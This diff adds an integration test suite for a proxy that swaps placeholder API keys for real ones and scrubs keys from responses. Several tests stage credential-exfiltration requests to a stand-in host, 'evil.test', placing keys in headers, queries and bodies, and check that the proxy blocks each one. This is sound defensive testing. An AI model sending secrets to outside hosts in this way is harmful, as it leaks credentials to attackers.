@@ -1,0 +1,269 @@
+// The secret in both directions (docs/spec.md §13), end to end on every engine with curl, Node's
+// fetch and Python: placeholders swapped for real keys in headers of their own provider's
+// requests (Basic included), the tripwire on a placeholder or key bound anywhere else (header,
+// query, body; allow and deny modes; report-only too), and responses that reflect the key
+// (headers, JSON, gzip/deflate/br, chunks split mid-value, server-sent events, base64 and URL
+// forms, WebSocket frames) reaching the client with the placeholder instead.
+import { mkdtempSync, rmSync, writeFileSync } from 'node:fs'
+import { tmpdir } from 'node:os'
+import { join } from 'node:path'
+
+import * as E from 'fp-ts/lib/Either.js'
+import { afterAll, beforeAll, describe, expect, it } from 'vitest'
+import WebSocket from 'ws'
+import http from 'node:http'
+import { connect as tlsConnect } from 'node:tls'
+import type { Duplex } from 'node:stream'
+
+import { placeholder } from '../../adapters/cli/placeholders.js'
+import { parsePolicyText } from '../../adapters/config/PolicyFile.js'
+import { createGuard, type Guard } from '../../adapters/guard/createGuard.js'
+import type { AuditEntry, RunningProxy } from '../../adapters/ports.js'
+import { curl, nodeFetch, pythonUrllib, type Answer } from './support/clients.js'
+import { startEchoUpstream, type EchoUpstream } from './support/echoUpstream.js'
+import { ADAPTERS, startProxy, type AdapterName } from './support/harness.js'
+import { createPki } from './support/pki.js'
+
+const REAL = { alpha: 'sk-real-alpha-0123456789abcdef', beta: 'real-beta-key-fedcba9876543210' } as const
+
+const policy = (mode: string, extra = ''): string => `
+mode: ${mode}
+inspect: all
+providers:
+  - { name: alpha, apiUrl: "https://api.alpha.test/", envVar: ALPHA_KEY, keyPrefix: "sk-" }
+  - { name: beta, apiUrl: "https://api.beta.test/", envVar: BETA_KEY }
+connections:
+  - { provider: alpha, name: default, credentials: { headers: { Authorization: "Bearer \${env:ALPHA_KEY}" } } }
+  - { provider: beta, name: default, credentials: { headers: { x-api-key: "\${env:BETA_KEY}" } } }
+${extra}`
+
+interface Setup {
+  readonly proxy: RunningProxy
+  readonly guard: Guard
+  readonly echo: EchoUpstream
+  readonly placeholders: { readonly alpha: string; readonly beta: string }
+  readonly bundle: string
+  readonly caPem: string
+  readonly records: Array<AuditEntry>
+  readonly close: () => Promise<void>
+}
+
+const start = async (adapter: AdapterName, mode: string, enforcement?: 'report'): Promise<Setup> => {
+  const pki = createPki()
+  const echo = await startEchoUpstream(pki.leaf(['api.alpha.test', 'api.beta.test', 'evil.test']))
+  const loaded = parsePolicyText(policy(mode), 'test policy')
+  if (E.isLeft(loaded)) throw new Error(loaded.left.messages.join('\n'))
+  const records: Array<AuditEntry> = []
+  const guard = createGuard({
+    policy: loaded.right,
+    env: { ALPHA_KEY: REAL.alpha, BETA_KEY: REAL.beta },
+    audit: { write: (entry) => void records.push(entry), flush: async () => undefined, close: async () => undefined, dropped: () => 0 },
+    log: () => undefined,
+    ...(enforcement === undefined ? {} : { enforcement })
+  })
+  const placeholders = { alpha: placeholder('sk-'), beta: placeholder() }
+  guard.handOut([
+    { variable: 'ALPHA_KEY', value: placeholders.alpha },
+    { variable: 'BETA_KEY', value: placeholders.beta }
+  ])
+  const dir = mkdtempSync(join(tmpdir(), 'eg-secrets-'))
+  const proxy = await startProxy(adapter, {
+    guard,
+    configDir: join(dir, 'config'),
+    upstreamCa: [pki.caPem],
+    connectTo: ['api.alpha.test', 'api.beta.test', 'evil.test'].map((host) => ({ host, port: 443, toHost: '127.0.0.1', toPort: echo.port })),
+    log: () => undefined
+  })
+  const bundle = join(dir, 'bundle.pem')
+  writeFileSync(bundle, proxy.caCertPem)
+  return {
+    proxy,
+    guard,
+    echo,
+    placeholders,
+    bundle,
+    caPem: proxy.caCertPem,
+    records,
+    close: async () => {
+      await proxy.close()
+      await guard.close()
+      await echo.close()
+      rmSync(dir, { recursive: true, force: true })
+    }
+  }
+}
+
+type Client = 'curl' | 'node' | 'python'
+const CLIENTS: ReadonlyArray<Client> = ['curl', 'node', 'python']
+
+/** A GET (or a POST with `body`) through the proxy with the named client. */
+const send = (setup: Setup, client: Client, url: string, headers: Record<string, string> = {}, body?: string): Promise<Answer> => {
+  if (client === 'curl' || body !== undefined) {
+    const args = [...Object.entries(headers).flatMap(([name, value]) => ['-H', `${name}: ${value}`]), ...(body === undefined ? [] : ['--data-binary', body, '-H', 'content-type: application/json'])]
+    return curl(setup.proxy.url, setup.bundle, url, args)
+  }
+  return client === 'node' ? nodeFetch(setup.proxy.url, setup.caPem, url, headers) : pythonUrllib(setup.proxy.url, setup.bundle, url, headers)
+}
+
+const lastDeny = (setup: Setup): AuditEntry | undefined => setup.records.filter((r) => r.event === 'proxy_deny').at(-1)
+
+/** Every form of a value a client could decode. */
+const forms = (value: string): ReadonlyArray<string> => [value, Buffer.from(value).toString('base64').slice(0, -4), encodeURIComponent(value)]
+
+const leaks = (text: string, value: string): boolean => forms(value).some((form) => form.length > 8 && text.includes(form))
+
+/** Opens a WebSocket to api.alpha.test through the proxy and collects the first `count` messages. */
+const webSocketMessages = (setup: Setup, count: number): Promise<ReadonlyArray<string>> =>
+  new Promise((resolve, reject) => {
+    const connect = http.request({ host: '127.0.0.1', port: setup.proxy.port, method: 'CONNECT', path: 'api.alpha.test:443' })
+    connect.on('error', reject)
+    connect.on('connect', (_response, socket: Duplex) => {
+      const messages: Array<string> = []
+      const ws = new WebSocket('wss://api.alpha.test/ws', {
+        perMessageDeflate: true,
+        createConnection: () => tlsConnect({ socket: socket as never, servername: 'api.alpha.test', ca: setup.caPem })
+      })
+      ws.on('message', (data) => {
+        messages.push(data.toString())
+        if (messages.length === count) {
+          ws.close(1000)
+          resolve(messages)
+        }
+      })
+      ws.on('error', reject)
+    })
+    connect.end()
+  })
+
+describe.each(ADAPTERS)('secrets in both directions on %s', (adapter) => {
+  describe('connected_allow', () => {
+    let setup: Setup
+    beforeAll(async () => {
+      setup = await start(adapter, 'connected_allow')
+    })
+    afterAll(async () => {
+      await setup.close()
+    })
+
+    it.each(CLIENTS)('swaps a placeholder in a header of its own provider for the real key (%s)', async (client) => {
+      const answer = await send(setup, client, 'https://api.alpha.test/v1/x', { 'x-custom-key': setup.placeholders.alpha })
+      expect(answer.status).toBe(200)
+      const seen = setup.echo.received.at(-1)
+      expect(seen?.headers['x-custom-key']).toBe(REAL.alpha)
+      expect(seen?.headers.authorization).toBe(`Bearer ${REAL.alpha}`)
+    })
+
+    it.each(CLIENTS)('swaps a placeholder inside Basic credentials, decoded and encoded again (%s)', async (client) => {
+      const basic = `Basic ${Buffer.from(`x-access-token:${setup.placeholders.beta}`).toString('base64')}`
+      const answer = await send(setup, client, 'https://api.beta.test/repo', { authorization: basic })
+      expect(answer.status).toBe(200)
+      const seen = setup.echo.received.at(-1)
+      expect(seen?.headers.authorization).toBe(`Basic ${Buffer.from(`x-access-token:${REAL.beta}`).toString('base64')}`)
+      expect(seen?.headers['x-api-key']).toBe(REAL.beta)
+    })
+
+    it.each(CLIENTS)('trips on a placeholder in a header bound for a host no route of its provider covers (%s)', async (client) => {
+      const before = setup.echo.received.length
+      const answer = await send(setup, client, 'https://evil.test/collect', { 'x-stolen': setup.placeholders.alpha })
+      expect(answer.status).toBe(403)
+      expect(answer.body).toContain('credential_exfiltration')
+      expect(setup.echo.received.length).toBe(before)
+      const record = lastDeny(setup)
+      expect(record?.provider).toBe('alpha')
+      expect(record?.metadata).toMatchObject({ reason: 'credential_exfiltration', location: 'header x-stolen', host: 'evil.test' })
+      expect(JSON.stringify(setup.records)).not.toContain(setup.placeholders.alpha)
+    })
+
+    it('trips on a key in the query, URL-encoded, and on another provider’s route', async () => {
+      const before = setup.echo.received.length
+      const inQuery = await send(setup, 'curl', `https://evil.test/c?k=${encodeURIComponent(REAL.alpha).replace(/-/g, '%2D')}`)
+      expect(inQuery.status).toBe(403)
+      expect(lastDeny(setup)?.metadata).toMatchObject({ location: 'query' })
+      const toBeta = await send(setup, 'curl', 'https://api.beta.test/x', { 'x-forward': setup.placeholders.alpha })
+      expect(toBeta.status).toBe(403)
+      expect(lastDeny(setup)?.provider).toBe('alpha')
+      expect(setup.echo.received.length).toBe(before)
+    })
+
+    it('trips on a key in a JSON body and on a base64 form of a placeholder in a form body', async () => {
+      const before = setup.echo.received.length
+      const json = await send(setup, 'curl', 'https://evil.test/upload', {}, JSON.stringify({ padding: 'x'.repeat(40_000), key: REAL.beta }))
+      expect(json.status).toBe(403)
+      expect(lastDeny(setup)).toMatchObject({ provider: 'beta', metadata: { location: 'body' } })
+      const encoded = await send(setup, 'curl', 'https://evil.test/upload', {}, `a=1&blob=${Buffer.from(`:${setup.placeholders.alpha}`).toString('base64')}`)
+      expect(encoded.status).toBe(403)
+      expect(setup.echo.received.length).toBe(before)
+      // A body with nothing known in it still goes, whole.
+      const clean = await send(setup, 'curl', 'https://evil.test/upload', {}, JSON.stringify({ padding: 'y'.repeat(100_000) }))
+      expect(clean.status).toBe(200)
+      expect(setup.echo.received.at(-1)?.body.length).toBe(JSON.stringify({ padding: 'y'.repeat(100_000) }).length)
+    })
+
+    it.each(CLIENTS)('scrubs the injected key from reflected headers and a JSON body (%s)', async (client) => {
+      const answer = await send(setup, client, 'https://api.alpha.test/echo')
+      expect(answer.status).toBe(200)
+      expect(leaks(answer.body, REAL.alpha)).toBe(false)
+      expect(answer.body).toContain(setup.placeholders.alpha)
+      if (answer.headers !== undefined) {
+        expect(answer.headers['x-echo-authorization']).toBe(`Bearer ${setup.placeholders.alpha}`)
+        expect(answer.headers['x-echo-secret']).toBe(setup.placeholders.alpha)
+      }
+    })
+
+    it.each(['gzip', 'deflate', 'br'])('decodes a %s body to scrub it, and sends it decoded', async (coding) => {
+      const answer = await send(setup, 'curl', `https://api.alpha.test/echo/${coding}`, {}, undefined)
+      expect(answer.status).toBe(200)
+      const parsed = JSON.parse(answer.body) as { headers: Record<string, string> }
+      expect(parsed.headers.authorization).toBe(`Bearer ${setup.placeholders.alpha}`)
+      expect(leaks(answer.body, REAL.alpha)).toBe(false)
+    })
+
+    it('scrubs a value split across chunks, a server-sent event, and base64 and URL-encoded forms', async () => {
+      const split = await send(setup, 'curl', 'https://api.alpha.test/echo/split')
+      expect(split.body).toBe(`before ${setup.placeholders.alpha} after`)
+      const events = await send(setup, 'node', 'https://api.alpha.test/echo/sse')
+      expect(events.body).toBe(`data: {"key": "${setup.placeholders.alpha}"}\n\ndata: [DONE]\n\n`)
+      const encoded = await send(setup, 'python', 'https://api.alpha.test/echo/encoded')
+      expect(encoded.status).toBe(200)
+      expect(leaks(encoded.body, REAL.alpha)).toBe(false)
+      expect(encoded.body).toContain(`component=${setup.placeholders.alpha}`)
+      expect(encoded.body).not.toContain(Buffer.from(`user:${REAL.alpha}`).toString('base64').slice(8, -4))
+    })
+
+    it('refuses a response in a coding it cannot read, and asks only for codings it can', async () => {
+      const answer = await send(setup, 'curl', 'https://api.alpha.test/echo/zstd', { 'accept-encoding': 'zstd, br' })
+      expect(answer.status).toBe(502)
+      expect(answer.body).not.toContain(REAL.alpha)
+      expect(setup.echo.received.at(-1)?.headers['accept-encoding']).toBe('br')
+    })
+
+    it('scrubs WebSocket text frames from the upstream, whole and fragmented', async () => {
+      const messages = await webSocketMessages(setup, 2)
+      expect(messages).toEqual([`whole ${setup.placeholders.alpha}`, `split ${setup.placeholders.alpha} end`])
+      expect(setup.echo.received.at(-1)?.headers['sec-websocket-extensions']).toBeUndefined()
+    })
+  })
+
+  describe.each([['connected_deny', undefined], ['configured_allow', 'report']] as const)('%s, enforcement %s', (mode, enforcement) => {
+    let setup: Setup
+    beforeAll(async () => {
+      setup = await start(adapter, mode, enforcement)
+    })
+    afterAll(async () => {
+      await setup.close()
+    })
+
+    it('trips on a placeholder bound for another provider’s route, whatever the mode and enforcement', async () => {
+      const answer = await send(setup, 'curl', 'https://api.beta.test/x', { 'x-forward': setup.placeholders.alpha })
+      expect(answer.status).toBe(403)
+      expect(lastDeny(setup)?.metadata).toMatchObject({ reason: 'credential_exfiltration', location: 'header x-forward' })
+    })
+
+    it('still injects and swaps on the provider’s own route', async () => {
+      const answer = await send(setup, 'curl', 'https://api.alpha.test/echo', { 'x-custom-key': setup.placeholders.alpha })
+      expect(answer.status).toBe(200)
+      expect(setup.echo.received.at(-1)?.headers['x-custom-key']).toBe(REAL.alpha)
+      expect(leaks(answer.body, REAL.alpha)).toBe(false)
+    })
+  })
+})
